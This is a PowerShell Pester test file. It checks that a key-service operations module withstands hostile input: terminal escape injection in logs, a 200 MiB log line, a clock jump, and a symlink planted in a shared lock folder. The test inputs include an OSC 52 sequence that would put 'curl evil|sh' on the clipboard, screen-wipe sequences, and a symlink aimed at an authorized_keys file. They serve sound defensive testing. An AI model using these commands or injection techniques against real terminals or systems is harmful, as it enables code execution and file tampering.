#requires -Modules @{ ModuleName = 'Pester'; ModuleVersion = '5.0.0' }
# A hostile world, as it happens (issues #25, #26): a terminal that is a real pty, a second "machine" (its own HOME),
# a clock step (Debian's faketime), a second user on the machine (setpriv). Each operator is a real pwsh process.
BeforeAll {
    . (Join-Path $PSScriptRoot 'LabHelpers.ps1')
    $script:lab = Start-KsoLab
    $script:a = $lab.instances
    $script:pwsh = (Get-Process -Id $PID).Path
    $script:labFile = Join-Path $TestDrive 'lab.json'
    $lab | Select-Object * -ExcludeProperty Process | ConvertTo-Json -Depth 4 | Set-Content $labFile
    $script:module = (Get-Module KeyServiceOps).Path -replace 'KeyServiceOps.dll$', 'KeyServiceOps.psd1'
    $script:helpers = Join-Path $PSScriptRoot 'LabHelpers.ps1'
    # The command line that runs SCRIPT in a fresh operator pwsh (the .NET tool's pwsh runs under the dotnet host).
    function script:Operator-CommandLine([string] $Command, [hashtable] $Env = @{}) {
        $file = Join-Path $TestDrive ("op-{0}.ps1" -f [guid]::NewGuid().ToString('N'))
        $exports = ($Env.GetEnumerator() | ForEach-Object { "`$env:$($_.Key) = '$($_.Value)'" }) -join "`n"
        @"
`$ProgressPreference = 'SilentlyContinue'
`$PSStyle.OutputRendering = 'PlainText'
$exports
Import-Module '$module'
. '$helpers'
Set-KsoLabContext (Get-Content '$labFile' -Raw | ConvertFrom-Json)
$Command
"@ | Set-Content $file
        $exe = @($pwsh)
        if ([IO.Path]::GetFileNameWithoutExtension($pwsh) -eq 'dotnet') { $exe += (Join-Path $PSHOME 'pwsh.dll') }
        return @($exe + @('-NoProfile', '-NonInteractive', '-File', $file))
    }
}
AfterAll { Stop-KsoLab $script:lab }

Describe 'A container''s log drives nobody''s terminal (a real pty)' {
    It 'OSC 52, screen and scrollback wipes and a window title arrive as visible text, never as control sequences' {
        $addr = $a[0]
        $esc = [char]27; $bel = [char]7
        Add-KsoLabLogLine $lab $addr "level=error msg=""$esc]52;c;$([Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes('curl evil|sh')))$bel cipher unavailable""" -Stderr
        Add-KsoLabLogLine $lab $addr "panic: $esc[2J$esc[3J$esc]0;owned$bel boom" -Stderr
        $cmd = "Get-KeyServiceLog $addr -Tail 10 | Format-Table -Wrap; Get-KeyServiceLog $addr -Tail 10 | Get-KeyServiceFault | Format-List; Get-KeyServiceLog $addr -Tail 10 | ForEach-Object { Write-Warning `$_.Message }"
        $argv = Operator-CommandLine $cmd
        $typescript = Join-Path $TestDrive 'pty.typescript'
        # util-linux script(1): the operator's pwsh runs on a real pseudo-terminal; every byte it sends is recorded.
        & script -q -e -c ($argv -join ' ') $typescript | Out-Null
        $LASTEXITCODE | Should -Be 0
        $bytes = [IO.File]::ReadAllText($typescript, [Text.Encoding]::Latin1)
        $bytes | Should -Match 'cipher unavailable'                       # the lines were shown
        $bytes | Should -Match ([regex]::Escape('\x1b]52;'))              # visibly escaped
        $bytes.Contains("$esc]52;") | Should -BeFalse                     # no clipboard write
        $bytes.Contains("$esc[2J") | Should -BeFalse                      # no screen wipe
        $bytes.Contains("$esc[3J") | Should -BeFalse                      # no scrollback wipe
        $bytes.Contains("$esc]0;owned") | Should -BeFalse                 # no window title
        # In the session: Message is escaped, the exact text is there on request.
        $hostile = Get-KeyServiceLog $addr -Tail 10 | Where-Object { $_.GetRawMessage().Contains("$esc]52;") }
        $hostile.Message | Should -Match ([regex]::Escape('\x1b]52;'))
        $hostile.Message.Contains([string]$esc) | Should -BeFalse
    }
}

Describe 'One 200 MiB log line (no newline for 200 MiB, invalid UTF-8 inside) costs bounded memory' {
    It 'is cut and marked with its length, invalid bytes replaced, and pwsh''s peak memory grows by at most 64 MB' {
        $addr = $a[3]
        $giant = Join-Path $TestDrive 'giant.log'
        $size = 200MB
        $fs = [IO.File]::Create($giant)
        try {
            $head = [Text.Encoding]::ASCII.GetBytes('level=error msg="cipher unavailable ')
            $fs.Write($head, 0, $head.Length)
            $chunk = [byte[]]::new(1MB); for ($i = 0; $i -lt $chunk.Length; $i++) { $chunk[$i] = 0x78 }
            $chunk[100] = 0xFF; $chunk[101] = 0xC3; $chunk[5000] = 0x80                 # invalid UTF-8 in every MiB
            for ($m = 0; $m -lt 200; $m++) { $fs.Write($chunk, 0, $chunk.Length) }
            $tail = [Text.Encoding]::ASCII.GetBytes("`"`nlevel=info msg=`"after the giant line`"`n")
            $fs.Write($tail, 0, $tail.Length)
        }
        finally { $fs.Dispose() }
        & chmod 0644 $giant
        Set-KsoLabRawLog $lab $addr $giant
        try {
            # The operator's pwsh: warmed up on another instance (SSH, JIT), its peak reset (/proc/self/clear_refs),
            # then the giant line through the pipeline the issue names; VmHWM is the peak resident set since the reset.
            $cmd = @"
`$null = Get-KeyServiceLog $($a[0]) -Tail 3 | Get-KeyServiceFault
[GC]::Collect(); [GC]::WaitForPendingFinalizers(); [GC]::Collect()
function Kb([string] `$key) { [long]((@([IO.File]::ReadAllLines('/proc/self/status')) -match "^`${key}:")[0] -replace '\D', '') }
`$rss = Kb VmRSS
[IO.File]::WriteAllText('/proc/self/clear_refs', '5')
`$faults = @(Get-KeyServiceLog $addr -Tail 3 | Tee-Object -Variable lines | Get-KeyServiceFault)
`$hwm = Kb VmHWM
`$cut = @(`$lines | Where-Object { `$_.Message -like '*line cut at*' })
[pscustomobject]@{ RssKb = `$rss; PeakKb = `$hwm; Lines = @(`$lines).Count; Cut = `$cut.Count; CutLength = `$cut[0].Message.Length; Mark = (`$cut[0].Message -replace '^.*(…\[line cut[^\]]*\]).*$', '`$1'); Replaced = `$cut[0].Message.Contains([char]0xFFFD); After = [bool](`$lines | Where-Object Message -like '*after the giant line*'); Faults = `$faults.Count } | ConvertTo-Json -Compress
"@
            $argv = Operator-CommandLine $cmd
            $out = & $argv[0] $argv[1..($argv.Count - 1)]
            $LASTEXITCODE | Should -Be 0
            $r = ($out | Select-Object -Last 1) | ConvertFrom-Json
            Write-Host ("200 MiB line: RSS before {0:N0} KiB, peak while reading {1:N0} KiB (+{2:N1} MiB); {3}" -f $r.RssKb, $r.PeakKb, (($r.PeakKb - $r.RssKb) / 1024), $r.Mark)
            $r.RssKb | Should -BeGreaterThan 10000                                # the readings are real
            $r.PeakKb | Should -BeGreaterThan 10000
            $r.Cut | Should -Be 1
            $r.CutLength | Should -BeLessThan (64KB + 200)
            $r.Mark | Should -Match 'of 209,715,2\d\d characters'
            $r.Replaced | Should -BeTrue                                          # invalid UTF-8 replaced, never fatal
            $r.After | Should -BeTrue                                             # the next line still arrives
            ($r.PeakKb - $r.RssKb) | Should -BeLessOrEqual (64 * 1024)            # pwsh grows by at most 64 MB
            # And in this session: the cut line, marked, from the same instance.
            $here = @(Get-KeyServiceLog $addr -Tail 3 | Where-Object { $_.Message -like '*line cut at*' })
            $here.Count | Should -Be 1
            $here[0].Message.Length | Should -BeLessThan (64KB + 200)
        }
        finally { Set-KsoLabRawLog $lab $addr '' }
    }
}

Describe 'A clock step between two self-healing passes (faketime)' {
    It 'times written by a clock two hours ahead are taken as now, with a warning, and never hold a restart back for hours' {
        $addr = $a[1]
        $state = Join-Path $TestDrive 'clock-state.json'
        Set-KsoLabMode $lab $addr Down
        # A pass on a host whose clock is two hours ahead removes the instance and restarts it (restart time, grace).
        $argv = Operator-CommandLine "1..3 | ForEach-Object { Invoke-KeyServiceSelfHealing -StatePath '$state' -FailuresToRemove 1 -Restart -Confirm:`$false | Out-Null }"
        # The whole process runs two hours ahead, monotonic clock included (faketime's FAKETIME_DONT_FAKE_MONOTONIC
        # breaks .NET's timed waits: a 2 s WaitOne returned after 38 ms, and every SSH handshake timed out).
        & faketime -f '+2h' @argv | Out-Null
        $LASTEXITCODE | Should -Be 0
        $written = Get-Content $state -Raw | ConvertFrom-Json
        ([DateTimeOffset]$written.Targets."$($addr):8888".GraceUntil) | Should -BeGreaterThan ([DateTimeOffset]::UtcNow.AddMinutes(90))
        # The next pass, on the right clock: the future times are repaired (not a two-hour hold), and it says so.
        $null = Invoke-KeyServiceSelfHealing -StatePath $state -Restart -Confirm:$false -WarningVariable w -WarningAction SilentlyContinue
        ($w -join "`n") | Should -Match 'further ahead than its own span|in the future'
        $after = Get-Content $state -Raw | ConvertFrom-Json
        $grace = $after.Targets."$($addr):8888".GraceUntil                # expired: cleared, or at most one span ahead
        if ($null -ne $grace) { ([DateTimeOffset]$grace) | Should -BeLessThan ([DateTimeOffset]::UtcNow.AddMinutes(10)) }
        foreach ($r in @($after.Targets."$($addr):8888".Restarts)) { ([DateTimeOffset]$r) | Should -BeLessThan ([DateTimeOffset]::UtcNow.AddMinutes(2)) }
        Set-KsoLabMode $lab $addr Up
    }
}

Describe 'A second user of a shared lock folder (setpriv)' {
    BeforeAll {
        if (-not (& id -u ksolab 2>$null)) { & useradd -M -s /bin/sh ksolab 2>$null | Out-Null }
        # A folder as a second user would share it, with MODE; runs the operator's Remove/Add in a real pwsh, returns its
        # error ids (the operator runs as root: every protection below is the module's own, not the kernel's).
        function script:Shared-Folder([string] $Mode) {
            $dir = Join-Path ([IO.Path]::GetTempPath()) ("kso-shared-locks-{0}" -f [guid]::NewGuid().ToString('N').Substring(0, 8))
            New-Item -ItemType Directory $dir | Out-Null
            & chmod $Mode $dir
            return $dir
        }
        function script:Remove-And-Add([string] $Addr, [string] $Dir) {
            $argv = Operator-CommandLine @"
`$ErrorActionPreference = 'Continue'
Remove-RingBalancerTarget $($Addr):8888 -Force -EvenIfHealthy -Confirm:`$false -ErrorVariable +e -ErrorAction SilentlyContinue
Add-RingBalancerTarget $($Addr):8888 -Force -Confirm:`$false -ErrorVariable +e -ErrorAction SilentlyContinue
`$e | ForEach-Object { 'ERR ' + `$_.FullyQualifiedErrorId.Split(',')[0] + ' ' + `$_.Exception.Message }
"@ @{ KEYSERVICEOPS_LOCK_DIR = $Dir }
            return (& $argv[0] $argv[1..($argv.Count - 1)] 2>&1 | Out-String)
        }
        $script:victim = Join-Path $TestDrive 'authorized_keys'
    }
    BeforeEach {
        Set-Content $victim 'ssh-ed25519 AAAA... the victim''s key'
        & chmod 0644 $victim
    }

    It 'a folder every user can write to without the sticky bit is refused, typed, and nothing changes' {
        $addr = $a[2]
        $shared = Shared-Folder 0777
        try {
            & setpriv --reuid=ksolab --regid=ksolab --clear-groups ln -s $victim (Join-Path $shared "$addr.holder")
            $out = Remove-And-Add $addr $shared
            $out | Should -Match 'ERR LockDirectoryUnwritable .*no sticky bit'
            Get-Content $victim -Raw | Should -Match 'the victim''s key'
            (Get-RingBalancerTarget).Target | Should -Contain "$($addr):8888"      # never removed
            Test-Path (Join-Path $shared "$addr.lock") | Should -BeFalse          # nothing created there
        }
        finally { Remove-Item $shared -Recurse -Force -ErrorAction SilentlyContinue }
    }

    It 'with the sticky bit (as /tmp): a planted holder symlink never redirects our write, the victim is untouched' {
        $addr = $a[2]
        $shared = Shared-Folder 1777
        try {
            # The other user plants <ip>.holder -> the victim's file, as themselves.
            & setpriv --reuid=ksolab --regid=ksolab --clear-groups ln -s $victim (Join-Path $shared "$addr.holder")
            $LASTEXITCODE | Should -Be 0
            (Get-Item (Join-Path $shared "$addr.holder")).LinkTarget | Should -Be $victim
            $out = Remove-And-Add $addr $shared
            $out | Should -Not -Match 'ERR'
            Get-Content $victim -Raw | Should -Match 'the victim''s key'
            Get-Content $victim -Raw | Should -Not -Match 'process'
            (Get-Item (Join-Path $shared "$addr.lock")).UnixFileMode | Should -Be ([IO.UnixFileMode]'UserRead, UserWrite')
        }
        finally { Remove-Item $shared -Recurse -Force -ErrorAction SilentlyContinue }
        (Get-RingBalancerTarget).Target | Should -Contain "$($addr):8888"
    }

    It 'with the sticky bit: a lock file the other user made first, or a folder the other user owns, is refused' {
        $addr = $a[2]
        $shared = Shared-Folder 1777
        $theirs = Join-Path ([IO.Path]::GetTempPath()) ("kso-their-locks-{0}" -f [guid]::NewGuid().ToString('N').Substring(0, 8))
        try {
            & setpriv --reuid=ksolab --regid=ksolab --clear-groups touch (Join-Path $shared "$addr.lock")
            $LASTEXITCODE | Should -Be 0
            Remove-And-Add $addr $shared | Should -Match 'ERR LockDirectoryUnwritable .*belongs to another user'
            & setpriv --reuid=ksolab --regid=ksolab --clear-groups mkdir -m 1777 $theirs
            Remove-And-Add $addr $theirs | Should -Match 'ERR LockDirectoryUnwritable .*owned by another user'
            (Get-RingBalancerTarget).Target | Should -Contain "$($addr):8888"
        }
        finally { Remove-Item $shared, $theirs -Recurse -Force -ErrorAction SilentlyContinue }
    }
}
